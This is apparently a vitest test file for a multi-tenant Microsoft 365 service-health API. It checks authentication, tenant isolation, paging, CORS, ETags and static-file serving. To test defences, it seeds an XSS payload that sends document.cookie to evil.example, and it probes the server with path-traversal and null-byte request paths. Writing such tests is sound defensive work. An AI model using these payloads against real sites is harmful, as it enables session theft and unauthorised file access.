/**
 * The JSON API through `createApp`: `app.request()` for most checks, and once over a real port.
 * The database is a real SQLite file (or, with `TEST_STORE=postgres`, a fresh PostgreSQL database:
 * `tempStore`) seeded with `applySync` from Microsoft's example payloads.
 */
import { serve, type ServerType } from '@hono/node-server';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { hc } from 'hono/client';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createApp, HTML_CSP, MAX_BODY_BYTES, type AppType } from '../../server/app.js';
import type { Core } from '../../server/core/index.js';
import { testCore } from './support/core.js';

import { loadConfig } from '../../server/config.js';
import type { IssueRecord } from '../../server/domain.js';
import { tempStore, type TempStore } from '../support/stack.js';
import { addAuthorizationRow } from './support/db.js';
import { fixtureIssues, fixtureSnapshot, variantsOf } from './support/graph-records.js';

const T1 = '84841066-274d-4ec0-a5c1-276be684bdd3'; // contoso, acme's
const T2 = '22222222-2222-4222-8222-222222222222'; // fabrikam, globex's
const T3 = '33333333-3333-4333-8333-333333333333'; // northwind, acme's, never synced
const PORTAL = 'https://portal.example.com';
const SYNCED_AT = new Date('2024-05-01T10:00:00Z');
let clock = new Date('2024-05-01T10:01:00Z');

let store: TempStore;
let root: string;
let app: ReturnType<typeof createApp>;
let core: Core;
let globexAuthorization: string;
const logLines: string[] = [];
const keys = {} as Record<'acmeAdmin' | 'acmeViewer' | 'globexViewer' | 'revoked', string>;

/** Three unresolved issues in contoso: two on Exchange Online, one on Microsoft 365 suite. */
function activeIssues(): IssueRecord[] {
  const [template] = fixtureIssues();
  const base = { ...template, isResolved: false, endDateTime: null };
  return [
    { ...base, id: 'EX900001', title: 'Mail flow delays (100% of users)', service: 'Exchange Online', classification: 'incident', status: 'serviceDegradation', lastModifiedDateTime: '2024-05-01T09:30:00.000Z', impactDescription: 'Users_may see delays.' },
    { ...base, id: 'EX900002', title: 'Outlook on the web search', service: 'Exchange Online', classification: 'advisory', status: 'investigating', lastModifiedDateTime: '2024-05-01T09:40:00.000Z', impactDescription: 'Search results can be incomplete.' },
    { ...base, id: 'MO900003', title: 'Admin center slow', service: 'Microsoft 365 suite', classification: 'advisory', status: 'serviceDegradation', lastModifiedDateTime: '2024-05-01T09:20:00.000Z', impactDescription: null,
      posts: [{ createdDateTime: '2024-05-01T09:20:00.000Z', postType: 'regular', contentType: 'html', content: 'Looking into it.<script>fetch("https://evil.example/?"+document.cookie)</script><a href="javascript:alert(1)" onclick="x()">details</a>' }] },
  ];
}

beforeAll(async () => {
  store = await tempStore();
  root = mkdtempSync(join(tmpdir(), 'o365-health-root-'));
  mkdirSync(join(root, 'demo', 'portal'), { recursive: true });
  mkdirSync(join(root, 'demo', 'simulator'), { recursive: true });
  writeFileSync(join(root, 'demo', 'portal', 'index.html'), '<!doctype html><title>Demo portal</title>');
  writeFileSync(join(root, 'demo', 'portal', 'app.js'), 'console.log("demo");');
  writeFileSync(join(root, 'demo', 'portal', '.env'), 'TOP-SECRET=1');
  writeFileSync(join(root, 'demo', 'simulator', 'server.ts'), 'export const SIMULATOR_SECRET = 1;');
  writeFileSync(join(root, 'secret.txt'), 'TOP-SECRET');

  const db = store.store;
  const acme = await db.findOrCreateOrg('acme');
  const globex = await db.findOrCreateOrg('globex');
  keys.acmeAdmin = (await db.createApiKey({ orgName: 'acme', role: 'admin', userName: 'ann' })).key;
  keys.acmeViewer = (await db.createApiKey({ orgName: 'acme', role: 'viewer' })).key;
  keys.globexViewer = (await db.createApiKey({ orgName: 'globex', role: 'viewer' })).key;
  const revoked = await db.createApiKey({ orgName: 'acme', role: 'admin' });
  await db.revokeApiKey(revoked.id);
  keys.revoked = revoked.key;

  await addAuthorizationRow(store, { orgId: acme.id, label: 'contoso.onmicrosoft.com', tenantId: T1, status: 'active' });
  await addAuthorizationRow(store, { orgId: acme.id, label: 'northwind', tenantId: T3, status: 'failed', createdAt: new Date('2024-01-01T00:00:00Z') });
  await addAuthorizationRow(store, { orgId: acme.id, label: 'Northwind EU', tenantId: T3, status: 'reauth_required', createdAt: new Date('2024-02-01T00:00:00Z') });
  await addAuthorizationRow(store, { orgId: acme.id, label: 'pending.example', tenantId: null, status: 'pending' });
  globexAuthorization = await addAuthorizationRow(store, { orgId: globex.id, label: 'fabrikam', tenantId: T2, status: 'active' });

  const contoso = fixtureSnapshot();
  contoso.issues.push(...activeIssues());
  await db.applySync(T1, contoso, SYNCED_AT);
  const fabrikam = fixtureSnapshot();
  fabrikam.organization = { displayName: 'Fabrikam', defaultDomain: 'fabrikam.com' };
  fabrikam.issues.push(...variantsOf(fixtureIssues()[0], 'PG', 57));
  await db.applySync(T2, fabrikam, SYNCED_AT);

  const config = loadConfig({ PUBLIC_URL: 'http://127.0.0.1:8787', ALLOWED_ORIGINS: PORTAL, ...store.env });
  core = testCore(db, config, () => clock);
  app = createApp({
    config,
    core,
    log: (line) => logLines.push(line),
    rootDir: root,
  });
});

afterAll(async () => {
  await store.dispose();
  rmSync(root, { recursive: true, force: true });
});

beforeEach(() => {
  clock = new Date('2024-05-01T10:01:00Z');
});

function get(path: string, key: string | null = keys.acmeViewer, headers: Record<string, string> = {}) {
  return app.request(path, { headers: { ...(key ? { Authorization: `Bearer ${key}` } : {}), ...headers } });
}

async function expectError(res: Response, status: number, code: string) {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  const body = (await res.json()) as { error: { code: string; message: string } };
  expect(body.error.code).toBe(code);
  expect(typeof body.error.message).toBe('string');
  return body.error.message;
}

describe('authentication and roles', () => {
  it('refuses /api/* without a key, with a malformed header, an unknown key or a revoked key', async () => {
    const missing = await get('/api/tenants', null);
    await expectError(missing, 401, 'unauthorized');
    expect(missing.headers.get('www-authenticate')).toMatch(/^Bearer/);

    for (const authorization of ['Basic dXNlcjpwYXNz', 'Bearer', `Bearer ${keys.acmeViewer} extra`, 'Bearer o365_unknownkeyunknownkeyunknownkeyunknownkeyxx', `Bearer ${keys.revoked}`]) {
      const res = await app.request('/api/tenants', { headers: { Authorization: authorization } });
      await expectError(res, 401, 'unauthorized');
      expect(res.headers.get('www-authenticate')).toContain('invalid_token');
    }
  });

  it('accepts the scheme in any case', async () => {
    const res = await app.request('/api/tenants', { headers: { Authorization: `bearer ${keys.acmeViewer}` } });
    expect(res.status).toBe(200);
  });

  it('lets admins through to the admin routes and answers 403 to viewers', async () => {
    await expectError(await get('/api/authorizations', keys.acmeViewer), 403, 'forbidden');
    const ok = await get('/api/authorizations', keys.acmeAdmin);
    expect(ok.status).toBe(200);
    const { authorizations } = (await ok.json()) as { authorizations: Array<{ label: string }> };
    // The admin's own org only: acme's four, none of globex's.
    expect(authorizations.map((a) => a.label).sort()).toEqual(['Northwind EU', 'contoso.onmicrosoft.com', 'northwind', 'pending.example']);
  });
});

describe('GET /api/tenants', () => {
  it('lists the tenants this org holds authorizations for, with its best status', async () => {
    const res = await get('/api/tenants');
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({
      tenants: [
        { tenantId: T1, label: 'contoso.onmicrosoft.com', displayName: 'Contoso', status: 'active', lastSyncAt: SYNCED_AT.toISOString(), stale: false, lastSyncError: null, nextSyncAt: expect.any(String) },
        { tenantId: T3, label: 'Northwind EU', displayName: null, status: 'reauth_required', lastSyncAt: null, stale: true, lastSyncError: null, nextSyncAt: null },
      ],
    });
  });

  it('shows another org only its own tenants', async () => {
    const body = (await (await get('/api/tenants', keys.globexViewer)).json()) as { tenants: Array<{ tenantId: string; displayName: string }> };
    expect(body.tenants.map((t) => [t.tenantId, t.displayName])).toEqual([[T2, 'Fabrikam']]);
  });

  it('marks data stale after two poll intervals without a sync', async () => {
    clock = new Date(SYNCED_AT.getTime() + 10 * 60_000 + 1);
    const body = (await (await get('/api/tenants')).json()) as { tenants: Array<{ tenantId: string; stale: boolean }> };
    expect(body.tenants.find((t) => t.tenantId === T1)!.stale).toBe(true);
  });
});

describe('GET /api/tenants/:tenantId/health', () => {
  it('returns every service with its unresolved issues, by id or by label in any case', async () => {
    for (const ref of [T1, 'contoso.onmicrosoft.com', 'CONTOSO.onMicrosoft.com', T1.toUpperCase()]) {
      const res = await get(`/api/tenants/${encodeURIComponent(ref)}/health`);
      expect(res.status, ref).toBe(200);
      const body = (await res.json()) as Record<string, unknown> & { services: Array<Record<string, unknown> & { issues: Array<Record<string, unknown>> }> };
      expect(body).toMatchObject({ tenantId: T1, syncedAt: SYNCED_AT.toISOString(), stale: false });
      expect(body.services.map((s) => [s.id, s.name, s.status, s.activeIssueCount])).toEqual([
        ['Exchange', 'Exchange Online', 'serviceOperational', 2],
        ['OrgLiveID', 'Identity Service', 'serviceRestored', 0],
        ['OSDPPlatform', 'Microsoft 365 suite', 'serviceOperational', 1],
      ]);
      const exchange = body.services[0].issues;
      expect(exchange.map((i) => i.id)).toEqual(['EX900002', 'EX900001']);
      expect(exchange[1]).toEqual({
        id: 'EX900001',
        title: 'Mail flow delays (100% of users)',
        service: 'Exchange Online',
        feature: expect.any(String),
        featureGroup: expect.any(String),
        classification: 'incident',
        status: 'serviceDegradation',
        origin: 'microsoft',
        isResolved: false,
        startDateTime: expect.stringMatching(/Z$/),
        endDateTime: null,
        lastModifiedDateTime: '2024-05-01T09:30:00.000Z',
        impactDescription: 'Users_may see delays.',
      });
    }
  });

  it('answers for an authorized tenant that has not synced yet', async () => {
    const res = await get('/api/tenants/northwind%20eu/health');
    expect(await res.json()).toMatchObject({ tenantId: T3, syncedAt: null, stale: true, services: [] });
  });

  it('gives the same 404 for a tenant of another org and for no tenant at all', async () => {
    const foreign = await expectError(await get(`/api/tenants/${T1}/health`, keys.globexViewer), 404, 'not_found');
    const byLabel = await expectError(await get('/api/tenants/contoso.onmicrosoft.com/health', keys.globexViewer), 404, 'not_found');
    const unknown = await expectError(await get('/api/tenants/00000000-0000-0000-0000-000000000000/health'), 404, 'not_found');
    const pending = await expectError(await get('/api/tenants/pending.example/health'), 404, 'not_found');
    expect(new Set([foreign, byLabel, unknown, pending]).size).toBe(1);
  });
});

type IssuesPage = { issues: Array<Record<string, unknown> & { id: string; lastModifiedDateTime: string }>; nextCursor: string | null };

describe('GET /api/tenants/:tenantId/issues', () => {
  const list = async (query: string, key = keys.acmeViewer, tenant = T1) => {
    const res = await get(`/api/tenants/${tenant}/issues${query}`, key);
    expect(res.status).toBe(200);
    return (await res.json()) as IssuesPage;
  };
  const ids = (page: IssuesPage) => page.issues.map((i) => i.id);

  it('lists all issues newest first by default', async () => {
    const page = await list('');
    expect(ids(page)).toEqual(['EX900002', 'EX900001', 'MO900003', 'EX415080', 'CR384241', 'EX226574', 'MO226574', 'EX226792', 'MO226784']);
    expect(page.nextCursor).toBeNull();
  });

  it('filters by state, classification and service (name or id, any case)', async () => {
    expect(ids(await list('?state=active'))).toEqual(['EX900002', 'EX900001', 'MO900003']);
    expect(ids(await list('?state=resolved'))).toEqual(['EX415080', 'CR384241', 'EX226574', 'MO226574', 'EX226792', 'MO226784']);
    expect(ids(await list('?classification=incident'))).toEqual(['EX900001', 'EX226792']);
    expect(ids(await list('?state=active&classification=advisory'))).toEqual(['EX900002', 'MO900003']);
    expect(ids(await list('?service=exchange%20online&state=active'))).toEqual(['EX900002', 'EX900001']);
    expect(ids(await list('?service=Exchange&state=active'))).toEqual(['EX900002', 'EX900001']);
    expect(ids(await list('?service=Nope'))).toEqual([]);
  });

  it('searches title and impact case-insensitively, with LIKE wildcards taken literally', async () => {
    expect(ids(await list('?q=OUTLOOK'))).toEqual(['EX900002']);
    expect(ids(await list('?q=search%20results'))).toEqual(['EX900002']);
    expect(ids(await list('?q=100%25'))).toEqual(['EX900001']);
    expect(ids(await list('?q=%25'))).toEqual(['EX900001']);
    expect(ids(await list('?q=users_may'))).toEqual(['EX900001']);
    expect(ids(await list('?q=_'))).toEqual(['EX900001']);
    expect(ids(await list('?q=zzz-no-such-text'))).toEqual([]);
  });

  it('matches issue ids in q, whole or in part, in any case', async () => {
    expect(ids(await list('?q=EX900001'))).toEqual(['EX900001']);
    expect(ids(await list('?q=mo900003'))).toEqual(['MO900003']);
    expect(ids(await list('?q=EX9000'))).toEqual(['EX900002', 'EX900001']);
    expect(ids(await list('?q=900003&state=resolved'))).toEqual([]);
    expect(ids(await list('?q=EX226'))).toEqual(['EX226574', 'EX226792']);
  });

  it('filters by since', async () => {
    expect(ids(await list('?since=2024-05-01T09:30:00Z'))).toEqual(['EX900002', 'EX900001']);
    expect(ids(await list('?since=2024-05-01T11:35:00%2B02:00'))).toEqual(['EX900002']);
  });

  it('pages with an opaque cursor across pages without duplicates or gaps', async () => {
    const all = await list('?limit=100', keys.globexViewer, T2);
    expect(all.issues).toHaveLength(63);
    const sorted = [...all.issues].sort((a, b) => (a.lastModifiedDateTime === b.lastModifiedDateTime ? a.id.localeCompare(b.id) : b.lastModifiedDateTime.localeCompare(a.lastModifiedDateTime)));
    expect(ids(all)).toEqual(ids({ issues: sorted, nextCursor: null }));

    const walked: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: IssuesPage = await list(`?limit=7${cursor ? `&cursor=${cursor}` : ''}`, keys.globexViewer, 'FABRIKAM');
      expect(page.issues.length).toBeLessThanOrEqual(7);
      walked.push(...ids(page));
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor && pages < 20);
    expect(pages).toBe(9);
    expect(walked).toEqual(ids(all));
    expect(new Set(walked).size).toBe(63);
  });

  it('uses 25 as the default page size and combines paging with filters', async () => {
    const first = await list('', keys.globexViewer, T2);
    expect(first.issues).toHaveLength(25);
    const active: string[] = [];
    let cursor: string | null = null;
    do {
      const page: IssuesPage = await list(`?state=active&limit=10${cursor ? `&cursor=${cursor}` : ''}`, keys.globexViewer, T2);
      active.push(...ids(page));
      cursor = page.nextCursor;
    } while (cursor);
    expect(active).toHaveLength(57);
    expect(active.every((id) => id.startsWith('PG'))).toBe(true);
  });

  it('is 404 for another org', async () => {
    await expectError(await get(`/api/tenants/${T2}/issues`, keys.acmeAdmin), 404, 'not_found');
  });
});

describe('GET /api/tenants/:tenantId/issues/:issueId', () => {
  it('returns the issue with its posts, sanitised', async () => {
    const res = await get(`/api/tenants/${T1}/issues/EX226792`);
    expect(res.status).toBe(200);
    const body = (await res.json()) as Record<string, unknown> & { posts: Array<{ html: string }> };
    expect(body).toMatchObject({ id: 'EX226792', service: 'Exchange Online', classification: 'incident', isResolved: true });
    expect(body.posts).toEqual([
      {
        createdDateTime: '2020-11-12T07:07:38.970Z',
        postType: 'regular',
        html:
          '<p>Title: Limited number of users unable to send or receive email through the Exchange Online service</p>' +
          '<p>User Impact: Users may be unable to send or receive email through the Exchange Online service.</p>',
      },
    ]);
  });

  it('never serves a hostile post as it came', async () => {
    const body = (await (await get(`/api/tenants/${T1}/issues/MO900003`)).json()) as { posts: Array<{ html: string }> };
    const html = body.posts[0].html;
    expect(html).not.toMatch(/script|javascript:|onclick|evil\.example/i);
    expect(html).toContain('Looking into it.');
    expect(html).toContain('rel="noopener noreferrer"');
  });

  it('is 404 for an unknown issue and for another org', async () => {
    await expectError(await get(`/api/tenants/${T1}/issues/EX000000`), 404, 'not_found');
    await expectError(await get(`/api/tenants/${T1}/issues/EX226792`, keys.globexViewer), 404, 'not_found');
  });
});

describe('bad input gets a 4xx JSON error, never a 5xx', () => {
  const b64 = (v: string) => Buffer.from(v).toString('base64url');
  const cases: Array<[string, string]> = [
    ['?limit=0', 'limit'],
    ['?limit=101', 'limit'],
    ['?limit=abc', 'limit'],
    ['?limit=2.5', 'limit'],
    ['?limit=', 'limit'],
    ['?limit=1&limit=2', 'limit'],
    ['?state=open', 'state'],
    ['?state=ACTIVE', 'state'],
    ['?classification=outage', 'classification'],
    ['?cursor=%%%', 'cursor'],
    ['?cursor=not*base64', 'cursor'],
    [`?cursor=${b64('{"lastModified":1}')}`, 'cursor'],
    [`?cursor=${b64('["not a date","x"]')}`, 'cursor'],
    [`?cursor=${b64('["2024-01-01T00:00:00.000Z"]')}`, 'cursor'],
    ['?since=yesterday', 'since'],
    ['?since=2024-13-01T00:00:00Z', 'since'],
    ['?since=2024-05-01', 'since'],
    [`?q=${'x'.repeat(201)}`, 'q'],
    [`?service=${'s'.repeat(101)}`, 'service'],
  ];
  for (const [query, field] of cases) {
    it(`issues${query.slice(0, 60)} names "${field}"`, async () => {
      const message = await expectError(await get(`/api/tenants/${T1}/issues${query}`), 400, 'validation_failed');
      expect(message).toContain(`"${field}"`);
    });
  }

  it('rejects malformed path parameters on every tenant endpoint', async () => {
    const long = 'x'.repeat(201);
    for (const path of [`/api/tenants/${long}/health`, `/api/tenants/${long}/issues`, `/api/tenants/${long}/issues/EX1`]) {
      expect(await expectError(await get(path), 400, 'validation_failed')).toContain('"tenantId"');
    }
    expect(await expectError(await get(`/api/tenants/${T1}/issues/EX%3Cscript%3E`), 400, 'validation_failed')).toContain('"issueId"');
    expect(await expectError(await get(`/api/tenants/${T1}/issues/${'E'.repeat(101)}`), 400, 'validation_failed')).toContain('"issueId"');
    await expectError(await get('/api/tenants/%E0%A4%A/health'), 404, 'not_found');
  });

  it('answers 405 for other methods on the tenant endpoints', async () => {
    for (const path of ['/api/tenants', `/api/tenants/${T1}/health`, `/api/tenants/${T1}/issues`, `/api/tenants/${T1}/issues/EX226792`]) {
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) {
        const res = await app.request(path, { method, headers: { Authorization: `Bearer ${keys.acmeAdmin}` } });
        await expectError(res, 405, 'method_not_allowed');
        expect(res.headers.get('allow')).toBe('GET, HEAD');
      }
    }
  });

  it('refuses oversized bodies with 413', async () => {
    const res = await app.request('/api/tenants', {
      method: 'POST',
      headers: { Authorization: `Bearer ${keys.acmeAdmin}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ pad: 'x'.repeat(MAX_BODY_BYTES) }),
    });
    await expectError(res, 413, 'payload_too_large');
  });

  it('answers unknown paths with a JSON 404', async () => {
    await expectError(await get('/api/nothing-here'), 404, 'not_found');
    await expectError(await get('/nothing-here', null), 404, 'not_found');
  });
});

describe('HTTP behaviour', () => {
  it('sends an ETag and answers 304 to If-None-Match until the data changes', async () => {
    const path = `/api/tenants/${T2}/health`;
    const first = await get(path, keys.globexViewer);
    const etag = first.headers.get('etag');
    expect(etag).toMatch(/^"[^"]+"$/);
    const again = await get(path, keys.globexViewer, { 'If-None-Match': etag! });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe('');

    const changed = fixtureSnapshot();
    changed.services[0].status = 'serviceInterruption';
    changed.issues.push(...variantsOf(fixtureIssues()[0], 'PG', 57));
    // A sync writes through the core, which replaces the tenant's entry in the read model.
    expect(await core.sync.apply({ tenantId: T2, authorizationId: globexAuthorization, snapshot: changed, nextPollAt: new Date('2024-05-01T10:05:00Z') })).toBe(true);
    const after = await get(path, keys.globexViewer, { 'If-None-Match': etag! });
    expect(after.status).toBe(200);
    expect(after.headers.get('etag')).not.toBe(etag);
  });

  it('allows CORS for configured origins only, with the headers the widgets need', async () => {
    const allowed = await get('/api/tenants', keys.acmeViewer, { Origin: PORTAL });
    expect(allowed.headers.get('access-control-allow-origin')).toBe(PORTAL);
    expect(allowed.headers.get('access-control-expose-headers')).toContain('ETag');
    expect(allowed.headers.get('access-control-allow-credentials')).toBeNull();
    expect(allowed.headers.get('vary')).toContain('Origin');

    const preflight = await app.request('/api/tenants', {
      method: 'OPTIONS',
      headers: { Origin: PORTAL, 'Access-Control-Request-Method': 'GET', 'Access-Control-Request-Headers': 'authorization' },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get('access-control-allow-origin')).toBe(PORTAL);
    expect(preflight.headers.get('access-control-allow-headers')?.toLowerCase()).toContain('authorization');
    expect(preflight.headers.get('access-control-allow-headers')?.toLowerCase()).toContain('if-none-match');

    const foreign = await get('/api/tenants', keys.acmeViewer, { Origin: 'https://evil.example' });
    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
    const foreignPreflight = await app.request('/api/tenants', {
      method: 'OPTIONS',
      headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': 'GET' },
    });
    expect(foreignPreflight.headers.get('access-control-allow-origin')).toBeNull();

    const own = await get('/api/tenants', keys.acmeViewer, { Origin: 'http://127.0.0.1:8787' });
    expect(own.headers.get('access-control-allow-origin')).toBe('http://127.0.0.1:8787');
  });

  it('answers the CORS preflight of POST and DELETE for an allowed origin only', async () => {
    for (const [path, method, headers] of [
      ['/api/authorizations', 'POST', 'authorization, content-type'],
      ['/api/authorizations/00000000-0000-4000-8000-000000000000', 'DELETE', 'authorization'],
    ] as const) {
      const preflight = await app.request(path, {
        method: 'OPTIONS',
        headers: { Origin: PORTAL, 'Access-Control-Request-Method': method, 'Access-Control-Request-Headers': headers },
      });
      expect(preflight.status, method).toBe(204);
      expect(preflight.headers.get('access-control-allow-origin'), method).toBe(PORTAL);
      const methods = preflight.headers.get('access-control-allow-methods')!.split(',').map((m) => m.trim());
      expect(methods, method).toContain(method);
      const allowed = preflight.headers.get('access-control-allow-headers')!.toLowerCase().split(',').map((h) => h.trim());
      for (const h of headers.split(', ')) expect(allowed, `${method} ${h}`).toContain(h);
      expect(preflight.headers.get('access-control-max-age')).toBe('600');

      const foreign = await app.request(path, { method: 'OPTIONS', headers: { Origin: 'https://evil.example', 'Access-Control-Request-Method': method } });
      expect(foreign.headers.get('access-control-allow-origin'), method).toBeNull();
    }
  });

  it('keeps the CORS headers on error answers, so a portal can read why a call failed', async () => {
    const cases: Array<[string, Response | Promise<Response>, number, string]> = [
      ['no key', get('/api/tenants', null, { Origin: PORTAL }), 401, 'unauthorized'],
      ['viewer on an admin path', get('/api/authorizations', keys.acmeViewer, { Origin: PORTAL }), 403, 'forbidden'],
      ['unknown tenant', get('/api/tenants/00000000-0000-0000-0000-000000000000/health', keys.acmeViewer, { Origin: PORTAL }), 404, 'not_found'],
      ['unknown path', get('/api/nothing-here', keys.acmeViewer, { Origin: PORTAL }), 404, 'not_found'],
      ['bad query', get(`/api/tenants/${T1}/issues?limit=1000`, keys.acmeViewer, { Origin: PORTAL }), 400, 'validation_failed'],
      ['wrong method', app.request('/api/tenants', { method: 'DELETE', headers: { Authorization: `Bearer ${keys.acmeViewer}`, Origin: PORTAL } }), 405, 'method_not_allowed'],
    ];
    for (const [what, pending, status, code] of cases) {
      const res = await pending;
      await expectError(res, status, code);
      expect(res.headers.get('access-control-allow-origin'), what).toBe(PORTAL);
      expect(res.headers.get('vary'), what).toContain('Origin');
    }
    // …and never for a foreign origin.
    const foreign = await get('/api/tenants', null, { Origin: 'https://evil.example' });
    await expectError(foreign, 401, 'unauthorized');
    expect(foreign.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('keeps the CORS headers on a 304', async () => {
    const first = await get('/api/tenants', keys.acmeViewer, { Origin: PORTAL });
    const res = await get('/api/tenants', keys.acmeViewer, { Origin: PORTAL, 'If-None-Match': first.headers.get('etag')! });
    expect(res.status).toBe(304);
    expect(res.headers.get('access-control-allow-origin')).toBe(PORTAL);
  });

  it('sends security headers, and a strict CSP on HTML', async () => {
    const api = await get('/api/tenants');
    expect(api.headers.get('x-content-type-options')).toBe('nosniff');
    expect(api.headers.get('cache-control')).toBe('private, no-cache');
    expect(api.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    const page = await app.request('/demo/');
    expect(page.headers.get('content-security-policy')).toBe(HTML_CSP);
    expect(page.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(page.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  });

  it('GET /healthz answers once the database answers', async () => {
    const res = await app.request('/healthz');
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ ok: true });

    const other = await tempStore();
    const errors: unknown[] = [];
    const brokenConfig = loadConfig({});
    const broken = createApp({ config: brokenConfig, core: testCore(other.store, brokenConfig), log: (_line, err) => err && errors.push(err) });
    // Its connection closed: the database no longer answers.
    await other.dispose();
    await expectError(await broken.request('/healthz'), 503, 'service_unavailable');
    expect(errors).toHaveLength(1);
  });

  it('logs one line per request, without keys or query strings', async () => {
    logLines.length = 0;
    await get('/api/tenants?secret=abc', keys.acmeAdmin);
    await get('/api/tenants', null);
    expect(logLines).toEqual([expect.stringMatching(/^GET \/api\/tenants 200 \d+ms$/), expect.stringMatching(/^GET \/api\/tenants 401 \d+ms$/)]);
  });
});

describe('static files', () => {
  it('serves a placeholder widget module that warns until the bundle is built', async () => {
    const res = await app.request('/widgets/o365-health.js');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/javascript/);
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    expect(await res.text()).toContain('console.warn(');
  });

  it('serves the built bundle once it exists', async () => {
    mkdirSync(join(root, 'widgets', 'dist'), { recursive: true });
    writeFileSync(join(root, 'widgets', 'dist', 'o365-health.js'), 'export const built = true;');
    try {
      const res = await app.request('/widgets/o365-health.js');
      expect(await res.text()).toBe('export const built = true;');
      expect(res.headers.get('content-type')).toMatch(/^text\/javascript/);
      expect(res.headers.get('access-control-allow-origin')).toBe('*');
      expect(res.headers.get('etag')).not.toBeNull();
      await expectError(await app.request('/widgets/other.js'), 404, 'not_found');
    } finally {
      rmSync(join(root, 'widgets'), { recursive: true, force: true });
    }
  });

  it('serves the demo portal, redirecting /demo to /demo/', async () => {
    expect((await app.request('/')).headers.get('location')).toBe('/demo/');
    const redirect = await app.request('/demo');
    expect(redirect.status).toBe(301);
    expect(redirect.headers.get('location')).toBe('/demo/');
    const page = await app.request('/demo/');
    expect(page.status).toBe(200);
    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
    expect(await page.text()).toContain('Demo portal');
    expect(await (await app.request('/demo/app.js')).text()).toContain('demo');
  });

  it('never serves the simulator sources, files outside demo/, or dot-files', async () => {
    for (const path of [
      '/demo/simulator/server.ts',
      '/demo/Simulator/server.ts',
      '/demo/simulator/',
      '/demo/../secret.txt',
      '/demo/%2e%2e/secret.txt',
      '/demo/..%2fsecret.txt',
      '/demo/%2e%2e%2fsecret.txt',
      '/demo/..%5csecret.txt',
      '/demo/.env',
      '/demo/app.js%00.html',
    ]) {
      const res = await app.request(path);
      expect(res.status, path).toBe(404);
      expect(await res.text(), path).not.toMatch(/TOP-SECRET|SIMULATOR_SECRET/);
    }
  });
});

describe('over a real port', () => {
  let server: ServerType;
  let base: string;
  beforeAll(async () => {
    await new Promise<void>((resolve) => {
      server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve());
    });
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('serves tenants, health, issues and ETags over HTTP', async () => {
    const auth = { Authorization: `Bearer ${keys.acmeViewer}`, Origin: PORTAL };
    const tenants = await fetch(`${base}/api/tenants`, { headers: auth });
    expect(tenants.status).toBe(200);
    expect(tenants.headers.get('access-control-allow-origin')).toBe(PORTAL);
    expect(((await tenants.json()) as { tenants: unknown[] }).tenants).toHaveLength(2);

    const health = await fetch(`${base}/api/tenants/contoso.onmicrosoft.com/health`, { headers: auth });
    const body = (await health.json()) as { services: Array<{ activeIssueCount: number }> };
    expect(body.services.map((s) => s.activeIssueCount)).toEqual([2, 0, 1]);
    const etag = health.headers.get('etag')!;
    const cached = await fetch(`${base}/api/tenants/contoso.onmicrosoft.com/health`, { headers: { ...auth, 'If-None-Match': etag } });
    expect(cached.status).toBe(304);

    const issue = await fetch(`${base}/api/tenants/${T1}/issues?state=active&limit=1`, { headers: auth });
    const page = (await issue.json()) as IssuesPage;
    expect(page.issues.map((i) => i.id)).toEqual(['EX900002']);
    expect(page.nextCursor).toEqual(expect.any(String));

    const bad = await fetch(`${base}/api/tenants/${T1}/issues?limit=1000`, { headers: auth });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string } }).error.code).toBe('validation_failed');

    const denied = await fetch(`${base}/api/tenants`);
    expect(denied.status).toBe(401);
    expect((await fetch(`${base}/healthz`)).status).toBe(200);
  });
});

describe('typed client (hc)', () => {
  it('gets typed paths, queries and bodies from the whole app (AppType)', async () => {
    const client = hc<AppType>('http://localhost', {
      fetch: (input: Request | string | URL, init?: RequestInit) => app.request(input instanceof Request ? input : String(input), init),
      headers: { Authorization: `Bearer ${keys.acmeViewer}` },
    });
    const tenants = client.api.tenants;
    const list = await (await tenants.$get()).json();
    expect(list.tenants.map((t) => t.label)).toEqual(['contoso.onmicrosoft.com', 'Northwind EU']);
    const res = await tenants[':tenantId'].issues.$get({ param: { tenantId: T1 }, query: { state: 'active', limit: '2' } });
    expect(res.status).toBe(200);
    if (res.status === 200) {
      const page = await res.json();
      const first = page.issues[0].lastModifiedDateTime;
      expect(first).toBe('2024-05-01T09:40:00.000Z');
      expect(page.nextCursor).toEqual(expect.any(String));
    }
    const issue = await tenants[':tenantId'].issues[':issueId'].$get({ param: { tenantId: T1, issueId: 'EX900001' } });
    if (issue.status === 200) expect((await issue.json()).posts.length).toBeGreaterThan(0);
    else expect.fail(`status ${issue.status}`);
  });
});

describe('secrets at rest', () => {
  it('no API key appears in the database (its files, or every row)', async () => {
    const bytes = await store.databaseText();
    expect(bytes.length).toBeGreaterThan(0);
    // The check reads the real data: the stored prefix of every key is there.
    for (const key of Object.values(keys)) expect(bytes).toContain(key.slice(0, 12));
    for (const key of Object.values(keys)) {
      expect(bytes.includes(key)).toBe(false);
      // Not even the secret part past the stored prefix.
      expect(bytes.includes(key.slice(12))).toBe(false);
    }
  });
});
